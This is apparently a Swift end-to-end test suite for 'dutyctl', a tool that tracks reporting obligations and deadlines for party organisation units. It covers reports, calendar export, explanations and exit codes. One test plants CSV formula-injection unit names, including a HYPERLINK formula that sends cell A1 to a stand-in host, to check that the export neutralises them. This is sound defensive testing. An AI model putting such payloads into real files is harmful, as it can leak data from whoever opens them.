import DutyTestScoping
import DutyTestSupport
import Foundation
import Testing

/// An administrator's first day with the built dutyctl in direct mode: import the example organisation,
/// ask what is due, explain it, record what was done; and the exit status of each kind of mistake.
@Suite("dutyctl direct mode, end to end", .ownThreads)
struct DutyctlDirectModeTests {
    typealias R = DutyctlCalendarTests
    static let repo = R.repo

    /// A settings file in a fresh folder, pointing at the shipped policy and holidays, with its own
    /// state store; `policy` overrides the policy folder.
    static func setUp(policy: String? = nil) throws -> String {
        let dir = scratchDirectory.appendingPathComponent("dutyctl-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let settings = """
            timezone = "Asia/Shanghai"
            state = "state/dutyd.sqlite"
            policy = ["\(policy ?? repo.appendingPathComponent("config/policy").path)"]
            holidays = ["\(repo.appendingPathComponent("config/holidays/cn").path)"]
            send_at = "09:00"
            track_from = "2026-11-29"
            """
        let path = dir.appendingPathComponent("dutyd.toml").path
        try settings.write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    static func imported() throws -> String {
        let config = try setUp()
        let u = try R.dutyctl(
            "unit",
            "import",
            repo.appendingPathComponent("config/organisation/units.csv").path,
            "--config",
            config
        )
        #expect(u.status == 0, "\(u.err)")
        #expect(u.out.contains("32 unit(s) added"))
        let o = try R.dutyctl(
            "official",
            "import",
            repo.appendingPathComponent("config/organisation/officials.csv").path,
            "--config",
            config
        )
        #expect(o.status == 0, "\(o.err)")
        return config
    }

    @Test(
        "report --year: on time, late by how much, waived, overdue and open per unit and obligation, as JSON, table and CSV"
    )
    func yearReport() throws {
        let config = try Self.imported()
        let text = try String(contentsOfFile: config, encoding: .utf8)
        try text.replacingOccurrences(of: "track_from = \"2026-11-29\"", with: "track_from = \"2026-01-01\"")
            .write(toFile: config, atomically: true, encoding: .utf8)
        for args in [
            ["done", "unit-situation-report/gd.sz.tsg/2026-H1", "--on", "2026-06-25"],
            ["done", "semiannual-report/gd.sz/2026-H1", "--on", "2026-06-20"],
            ["waive", "situation-analysis/gd.sz/2026-Q1", "--reason", "并入全会"],
        ] {
            let r = try R.dutyctl(args + ["--config", config])
            #expect(r.status == 0, "\(args): \(r.err)")
        }
        let at = [
            "--year", "2026", "--unit", "gd.sz", "--subtree", "--at", "2026-12-31T12:00:00+08:00", "--config", config,
        ]
        let r = try R.dutyctl(["report", "--json"] + at)
        #expect(r.status == 0, "\(r.err)")
        let json = try R.json(r)
        // Unit by unit: each unit's total (no obligation), then its line per obligation.
        let all = try #require(json["lines"] as? [[String: Any]])
        let lines = all.filter { !($0["obligation"] as! String).isEmpty }
        let units = all.filter { ($0["obligation"] as! String).isEmpty }
        #expect(all.first?["obligation"] as? String == "" && units.count > 1)
        func line(_ unit: String, _ obligation: String) -> [String: Any]? {
            lines.first { $0["unit"] as? String == unit && $0["obligation"] as? String == obligation }
        }
        let tsg = try #require(line("gd.sz.tsg", "unit-situation-report"))
        #expect(tsg["due"] as? Int == 2 && tsg["late"] as? Int == 1 && tsg["late_days_max"] as? Int == 7)
        #expect(tsg["overdue"] as? Int == 1 && tsg["on_time"] as? Int == 0 && tsg["on_time_rate"] as? Double == 0)
        // Receipt (签收): H1 done on 25 June, a week after its receipt was due; H2's receipt never came.
        #expect(tsg["received_on_time"] as? Int == 0 && tsg["received_late"] as? Int == 1)
        #expect(tsg["receipt_overdue"] as? Int == 1 && tsg["receipt_rate"] as? Double == 0)
        let report = try #require(line("gd.sz", "semiannual-report"))
        #expect(report["due"] as? Int == 2 && report["on_time"] as? Int == 1 && report["open"] as? Int == 1)
        #expect(report["on_time_rate"] as? Double == 1)
        let analysis = try #require(line("gd.sz", "situation-analysis"))
        #expect(analysis["due"] as? Int == 4 && analysis["waived"] as? Int == 1)
        #expect(analysis["overdue"] as? Int == 2 && analysis["open"] as? Int == 1)
        // Totals add up; nothing outside the subtree.
        let total = try #require(json["total"] as? [String: Any])
        #expect(total["due"] as? Int == lines.map { $0["due"] as! Int }.reduce(0, +))
        #expect(lines.allSatisfy { ($0["unit"] as! String).hasPrefix("gd.sz") })
        let table = try R.dutyctl(["report"] + at)
        #expect(table.status == 0 && table.out.contains("gd.sz.tsg 深圳图书馆党总支") && table.out.contains("1 (7)"))
        let csv = try R.dutyctl(["report", "--csv"] + at)
        #expect(csv.out.hasPrefix("\u{FEFF}unit,unit_name,obligation,"))
        let rows = csv.out.split(separator: "\r\n")
        #expect(rows.count == 1 + lines.count + units.count + 1)
        #expect(
            rows.contains {
                $0.hasPrefix("gd.sz.tsg,深圳图书馆党总支,unit-situation-report,")
                    && $0.hasSuffix(",2,0,1,7,7,0,1,0,0.000,0,1,1,0.000,0")
            }
        )
        let bad = try R.dutyctl(["report", "--year", "2026", "--unit", "nowhere", "--config", config])
        #expect(bad.status == 65)
        #expect(try R.dutyctl(["report", "--year", "26", "--config", config]).status == 64)
        // 2027's holidays are not published: the report says its December deadlines are provisional.
        #expect(table.err.contains("2027 holiday schedule is not published"))
    }

    /// What Python's icalendar package reads in an .ics file: one object per event or to-do.
    static func parseICS(_ text: String) throws -> [[String: Any]] {
        let dir = scratchDirectory.appendingPathComponent("ics-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let file = dir.appendingPathComponent("out.ics")
        try text.write(to: file, atomically: true, encoding: .utf8)
        let script = """
            import icalendar, json, sys
            cal = icalendar.Calendar.from_ical(open(sys.argv[1], "rb").read())
            out = []
            for c in cal.walk():
                if c.name not in ("VEVENT", "VTODO"):
                    continue
                d = c.get("DTSTART") or c.get("DUE")
                out.append({"uid": str(c["UID"]), "summary": str(c["SUMMARY"]), "date": d.dt.isoformat(),
                    "status": str(c.get("STATUS")), "state": str(c.get("X-DUTYD-STATE")),
                    "description": str(c.get("DESCRIPTION")),
                    "alarms": len([a for a in c.walk() if a.name == "VALARM"])})
            print(json.dumps(out, ensure_ascii=False))
            """
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        p.arguments = ["-c", script, file.path]
        let out = Pipe()
        p.standardOutput = out
        try p.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        try p.waitForExit()
        try #require(p.terminationStatus == 0, "python3-icalendar could not read the file (make test installs it)")
        return try #require(try JSONSerialization.jsonObject(with: data) as? [[String: Any]])
    }

    @Test(
        "calendar export --ics: one event per occurrence with stable UIDs, alarms and state, read by Python's icalendar"
    )
    func icsExport() throws {
        let config = try Self.imported()
        #expect(
            try R.dutyctl("done", "semiannual-report/gd.sz/2026-H2", "--on", "2026-11-29", "--config", config).status
                == 0
        )
        #expect(
            try R.dutyctl("waive", "situation-analysis/gd.sz/2026-Q4", "--reason", "并入全会", "--config", config).status
                == 0
        )
        let scope = ["--unit", "gd.sz", "--subtree", "--at", "2026-11-29T09:00:00+08:00", "--config", config]
        let first = try R.dutyctl(["calendar", "export", "--ics", "--since", "2026-11-29"] + scope)
        #expect(first.status == 0, "\(first.err)")
        let events = try Self.parseICS(first.out)
        // The same occurrences upcoming lists over the same 400 days, whatever their state.
        let up = try R.dutyctl(["upcoming", "--json", "--state", "all", "--within", "400d"] + scope)
        let occurrences = try #require(try R.json(up)["occurrences"] as? [[String: Any]])
        #expect(Set(events.map { $0["uid"] as! String }) == Set(occurrences.map { "\($0["id"] as! String)@dutyd" }))
        #expect(events.count == occurrences.count && !events.isEmpty)
        for o in occurrences {
            let e = try #require(events.first { $0["uid"] as? String == "\(o["id"] as! String)@dutyd" })
            #expect(e["date"] as? String == o["deadline_date"] as? String)
            let reminders = (o["steps"] as! [[String: Any]]).filter { $0["kind"] as? String == "reminder" }.count
            let live = ["open", "late"].contains(o["state"] as! String)
            #expect(e["alarms"] as? Int == (live ? reminders : 0))
            #expect((e["summary"] as! String).contains(o["title"] as! String))
        }
        let done = try #require(events.first { $0["uid"] as? String == "semiannual-report/gd.sz/2026-H2@dutyd" })
        #expect(done["state"] as? String == "done" && (done["summary"] as! String).hasPrefix("✓ "))
        let waived = try #require(events.first { $0["uid"] as? String == "situation-analysis/gd.sz/2026-Q4@dutyd" })
        #expect(waived["status"] as? String == "CANCELLED")
        // Stable across runs.
        let again = try Self.parseICS(
            try R.dutyctl(["calendar", "export", "--ics", "--since", "2026-11-29"] + scope).out
        )
        #expect(again.map { $0["uid"] as! String } == events.map { $0["uid"] as! String })
        // To-dos: done ones completed.
        let todos = try Self.parseICS(
            try R.dutyctl(["calendar", "export", "--ics", "--todo", "--since", "2026-11-29"] + scope).out
        )
        #expect(
            todos.first { $0["uid"] as? String == "semiannual-report/gd.sz/2026-H2@dutyd" }?["status"] as? String
                == "COMPLETED"
        )
        // One official's calendar: what he is responsible for or told of.
        let mine = try Self.parseICS(
            try R.dutyctl(["calendar", "export", "--ics", "--official", "hu.dan", "--since", "2026-11-29"] + scope).out
        )
        #expect(!mine.isEmpty && mine.count < events.count)
        #expect(try R.dutyctl(["calendar", "export", "--ics", "--official", "nobody"] + scope).status == 65)
        #expect(try R.dutyctl(["calendar", "export"] + scope).status == 64)
    }

    @Test("report --csv shows a unit named like a formula as text, never as a formula")
    func reportCSVNeutralisesFormulas() throws {
        let config = try Self.imported()
        let csv = scratchDirectory.appendingPathComponent("units-\(UUID().uuidString).csv")
        defer { try? FileManager.default.removeItem(at: csv) }
        try """
        id,name,kind,parent,email
        gd.sz.evil,"=HYPERLINK(""http://example.invalid/?x=""&A1,""看这里"")",unit,gd.sz,
        gd.sz.plus,+1-2,unit,gd.sz,
        gd.sz.at,@SUM(A1:A9),unit,gd.sz,
        gd.sz.minus,-3+4,unit,gd.sz,

        """.write(to: csv, atomically: true, encoding: .utf8)
        let added = try R.dutyctl("unit", "import", csv.path, "--config", config)
        #expect(added.status == 0, "\(added.err)")
        let r = try R.dutyctl(
            "report",
            "--csv",
            "--year",
            "2026",
            "--unit",
            "gd.sz",
            "--subtree",
            "--at",
            "2026-12-31T12:00:00+08:00",
            "--config",
            config
        )
        #expect(r.status == 0, "\(r.err)")
        let rows = r.out.split(whereSeparator: \.isNewline).filter {
            $0.hasPrefix("gd.sz.evil,") || $0.hasPrefix("gd.sz.plus,") || $0.hasPrefix("gd.sz.at,")
                || $0.hasPrefix("gd.sz.minus,")
        }
        #expect(rows.count >= 4, "\(r.out)")
        for row in rows {
            let name = row.split(separator: ",", maxSplits: 1)[1]
            #expect(
                name.hasPrefix("\"'=") || name.hasPrefix("'+") || name.hasPrefix("'@") || name.hasPrefix("'-"),
                "\(row)"
            )
        }
        // Numbers stay numbers.
        #expect(
            rows.allSatisfy { !$0.contains(",'") || $0.split(separator: ",").last.map { !$0.hasPrefix("'") } == true }
        )
    }

    @Test("upcoming --json lists occurrences with the documented fields")
    func upcomingJSON() throws {
        let config = try Self.imported()
        let r = try R.dutyctl(
            "upcoming",
            "--config",
            config,
            "--at",
            "2026-11-29T09:00:00+08:00",
            "--within",
            "400d",
            "--unit",
            "gd.gz",
            "--json"
        )
        #expect(r.status == 0, "\(r.err)")
        let list = try #require(try R.json(r)["occurrences"] as? [[String: Any]])
        let report = try #require(list.first { $0["id"] as? String == "semiannual-report/gd.gz/2026-H2" })
        #expect(report["obligation"] as? String == "semiannual-report")
        #expect(report["subject"] as? String == "gd.gz")
        #expect(report["period"] as? String == "2026-H2")
        #expect(report["deadline"] as? String == "2026-12-31T23:59:59+08:00")
        #expect(report["state"] as? String == "open")
        #expect(report["provisional"] as? Bool == true)
        let responsible = try #require(report["responsible"] as? [[String: Any]])
        #expect(responsible.compactMap { $0["name"] as? String }.contains("黄志强"))
        let steps = try #require(report["steps"] as? [[String: Any]])
        #expect(
            steps.map { $0["kind"] as? String } == [
                "reminder", "reminder", "reminder", "due", "escalation", "escalation",
            ]
        )
        #expect(steps.first?["at"] as? String == "2026-12-01T09:00:00+08:00")
        let last = try #require(steps.last?["recipients"] as? [[String: Any]])
        #expect(last.compactMap { $0["id"] as? String }.contains("wang.jianguo"))  // the province's secretary
        #expect(r.err.contains("2027 holiday schedule is not published"))
    }

    @Test("the table lines up Chinese names by display width")
    func tableAlignment() throws {
        let config = try Self.imported()
        let r = try R.dutyctl(
            "upcoming",
            "--config",
            config,
            "--at",
            "2026-11-29T09:00:00+08:00",
            "--within",
            "40d",
            "--unit",
            "gd",
            "--subtree"
        )
        #expect(r.status == 0, "\(r.err)")
        let lines = r.out.split(separator: "\n").filter { $0.contains("/") }
        // The RESPONSIBLE column starts at the same display column on every row.
        let starts = Set(
            lines.map { line -> Int in
                let s = String(line)
                let name = s.components(separatedBy: "  ").filter { !$0.isEmpty }.last!
                return Self.width(String(s[..<s.range(of: name, options: .backwards)!.lowerBound]))
            }
        )
        #expect(starts.count == 1, "\(starts)")
    }

    static func width(_ s: String) -> Int {
        s.unicodeScalars.reduce(0) { $0 + (($1.value >= 0x4E00 && $1.value <= 0x9FFF) ? 2 : 1) }
    }

    @Test("explain shows rule, shift, steps and recipients; done stops the steps and starts the triggered report")
    func explainAndDone() throws {
        let config = try Self.imported()
        let e = try R.dutyctl(
            "explain",
            "annual-supervision/gd.xcb/2026",
            "--config",
            config,
            "--at",
            "2026-11-29T09:00:00+08:00"
        )
        #expect(e.status == 0, "\(e.err)")
        #expect(e.out.contains("rule: periodic, OnCalendar *-11-30"))
        #expect(e.out.contains("deadline: 2026-11-30 Mon, end of day 2026-11-30T23:59:59+08:00"))
        #expect(e.out.contains("to: 孙伟 (head, self gd.xcb)"))
        #expect(e.out.contains("  2026-11-30 Mon: working day (weekday); previous-workday keeps it"))
        let d = try R.dutyctl(
            "done",
            "annual-supervision/gd.xcb/2026",
            "--on",
            "2026-11-27",
            "--ref",
            "粤宣〔2026〕30号",
            "--config",
            config
        )
        #expect(d.status == 0, "\(d.err)")
        #expect(d.out.contains("starts supervision-result-report/gd.xcb/2026, due 2026-12-11 Fri"))
        let after = try R.dutyctl(
            "explain",
            "annual-supervision/gd.xcb/2026",
            "--config",
            config,
            "--at",
            "2026-11-29T09:00:00+08:00"
        )
        #expect(after.out.contains("state at 2026-11-29T09:00:00+08:00: done on 2026-11-27 (on time)"))
        #expect(after.out.contains("[stopped: done]"))
        let again = try R.dutyctl("done", "annual-supervision/gd.xcb/2026", "--on", "2026-11-27", "--config", config)
        #expect(again.status == 65)
        #expect(again.err.contains("dutyctl undo annual-supervision/gd.xcb/2026"))
        let undo = try R.dutyctl("undo", "annual-supervision/gd.xcb/2026", "--config", config)
        #expect(undo.status == 0)
        let json = try R.dutyctl(
            "done",
            "annual-supervision/gd.xcb/2026",
            "--on",
            "2026-11-27",
            "--config",
            config,
            "--json"
        )
        let j = try R.json(json)
        #expect(j["late"] as? Bool == false)
        #expect(j["starts"] as? [String] == ["supervision-result-report/gd.xcb/2026"])
    }

    @Test("event record starts major-situation-report")
    func event() throws {
        let config = try Self.imported()
        let r = try R.dutyctl(
            "event",
            "record",
            "major-situation",
            "--unit",
            "gd.sz",
            "--on",
            "2026-11-27",
            "--config",
            config
        )
        #expect(r.status == 0, "\(r.err)")
        #expect(r.out.contains("starts major-situation-report/gd.sz/major-situation-2026-11-27, due 2026-11-30 Mon"))
        let wrong = try R.dutyctl("event", "record", "major-situaton", "--unit", "gd.sz", "--config", config)
        #expect(wrong.status == 64)
        #expect(wrong.err.contains("expected one of accountability-decision, major-situation"))
    }

    @Test("bad data exits 65 with file:line:column, and the store is unchanged")
    func badCSV() throws {
        let config = try Self.imported()
        let file = scratchDirectory.appendingPathComponent("bad-\(UUID().uuidString).csv").path
        try "id,name,kind,parent\ngd.new,新单位,committee,gd\ngd.bad,坏,comittee,gd\n".write(
            toFile: file,
            atomically: true,
            encoding: .utf8
        )
        let r = try R.dutyctl("unit", "import", file, "--config", config)
        #expect(r.status == 65)
        #expect(r.err.contains("\(file):3:3: unknown kind 'comittee'"))
        let ls = try R.dutyctl("unit", "ls", "--config", config, "--json")
        #expect(!ls.out.contains("gd.new"))
        // A parent that exists nowhere is a store check; it is still placed on its line (3, not the
        // parent's line 2, though the message names both ids)
        try "id,name,kind,parent\ngd.a,甲,unit,gd\ngd.b,乙,unit,gd.a.x\n".write(
            toFile: file,
            atomically: true,
            encoding: .utf8
        )
        let orphan = try R.dutyctl("unit", "import", file, "--config", config)
        #expect(orphan.status == 65)
        #expect(orphan.err.contains("\(file):3: unit 'gd.b' names parent 'gd.a.x'"), "\(orphan.err)")
        let unknown = try R.dutyctl("explain", "semiannual-report/gd.nowhere/2026-H2", "--config", config)
        #expect(unknown.status == 65)
    }

    @Test("a bad policy exits 78 naming file and line; bad usage exits 64")
    func badConfiguration() throws {
        let folder = scratchDirectory.appendingPathComponent("policy-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let original = try String(
            contentsOf: Self.repo.appendingPathComponent("config/policy/ideology-responsibility.toml"),
            encoding: .utf8
        )
        let broken = original.replacingOccurrences(of: "schedule = \"*-11-30\"", with: "schedule = \"*-11-31\"")
        try broken.write(to: folder.appendingPathComponent("p.toml"), atomically: true, encoding: .utf8)
        let config = try Self.setUp(policy: folder.path)
        let line = broken.components(separatedBy: "\n").firstIndex { $0.hasPrefix("schedule = \"*-11-31\"") }! + 1
        let r = try R.dutyctl("policy", "check", "--config", config)
        #expect(r.status == 78)
        #expect(r.err.contains("p.toml:\(line):1: the schedule gives no day"), "\(r.err)")
        let upcoming = try R.dutyctl("upcoming", "--config", config)
        #expect(upcoming.status == 78)
        let usage = try R.dutyctl("upcoming", "--config", try Self.setUp(), "--within", "ten days")
        #expect(usage.status == 64)
        let noConfig = try R.dutyctl("unit", "ls", "--config", "/nonexistent/dutyd.toml")
        #expect(noConfig.status == 78)
    }

    @Test("unit and official add, set, show, rm; export then import gives the same tree")
    func manageOrganisation() throws {
        let config = try Self.imported()
        func run(_ args: String...) throws -> DutyctlCalendarTests.Result {
            try R.dutyctl(args + ["--config", config])
        }
        #expect(
            try run("unit", "add", "gd.gz.baiyun", "--name", "中共广州市白云区委", "--kind", "committee", "--parent", "gd.gz")
                .status == 0
        )
        #expect(try run("unit", "add", "gd.gz.baiyun", "--name", "x", "--kind", "committee").status == 65)  // exists
        #expect(try run("unit", "add", "gd.x", "--name", "x", "--kind", "comittee").status == 64)
        #expect(
            try run(
                "official",
                "add",
                "liu.bei",
                "--name",
                "刘备",
                "--unit",
                "gd.gz.baiyun",
                "--roles",
                "secretary,clerk"
            ).status == 0
        )
        #expect(try run("official", "set", "liu.bei", "--roles", "secretary").status == 0)
        let shown = try run("unit", "show", "gd.gz.baiyun", "--json")
        let j = try R.json(shown)
        #expect((j["officials"] as? [[String: Any]])?.first?["roles"] as? [String] == ["secretary"])
        #expect((j["obligations"] as? [String])?.contains("semiannual-report") == true)
        #expect(try run("unit", "set", "gd.gz.baiyun", "--name", "白云区委").status == 0)
        #expect(try run("unit", "set", "gd", "--parent", "gd.gz.baiyun").status == 65)  // a cycle
        // Export, wipe, import the export: the same units come back
        let exported = try run("unit", "export")
        #expect(exported.out.hasPrefix("id,name,kind,parent,email,track_from\r\n"))
        let file = scratchDirectory.appendingPathComponent("units-\(UUID().uuidString).csv").path
        try Data([0xEF, 0xBB, 0xBF] + Array(exported.out.utf8)).write(to: URL(fileURLWithPath: file))
        #expect(try run("unit", "rm", "gd.gz.baiyun").status == 65)  // has an official
        #expect(try run("official", "rm", "liu.bei").status == 0)
        #expect(try run("unit", "rm", "gd.gz.baiyun").status == 0)
        let back = try run("unit", "import", file)
        #expect(back.status == 0, "\(back.err)")
        #expect(back.out.contains("1 unit(s) added, 32 updated"))
        #expect(try run("unit", "show", "gd.gz.baiyun").out.contains("白云区委"))
        // A name typed for an id, or an id in capitals: the units meant are named, the shortest names
        // first, at most three; text that is in no name still points at `unit ls`.
        let byName = try run("unit", "show", "广州市委")
        #expect(byName.status == 65)
        #expect(
            byName.err.contains(
                "no unit '广州市委'; did you mean gd.gz (中共广州市委), gd.gz.xcb (广州市委宣传部), gd.gz.zzb (广州市委组织部)? `dutyctl unit ls` lists them"
            ),
            "\(byName.err)"
        )
        #expect(try run("unit", "show", "GD.GZ").err.contains("no unit 'GD.GZ'; did you mean gd.gz (中共广州市委)?"))
        #expect(try run("unit", "show", "火星").err.contains("no unit '火星'; `dutyctl unit ls` lists them"))
    }

    @Test("policy check passes on the shipped policy, config check on the example")
    func checks() throws {
        let config = try Self.imported()
        let p = try R.dutyctl("policy", "check", "--config", config)
        #expect(p.status == 0)
        #expect(p.out.contains("policy ok: 15 obligation(s)"))
        let c = try R.dutyctl("config", "check", "--config", config)
        #expect(c.status == 0, "\(c.err)")
        #expect(c.out.contains("32 unit(s), 64 official(s)"))
        #expect(!c.out.contains("reaches nobody"))
    }
}
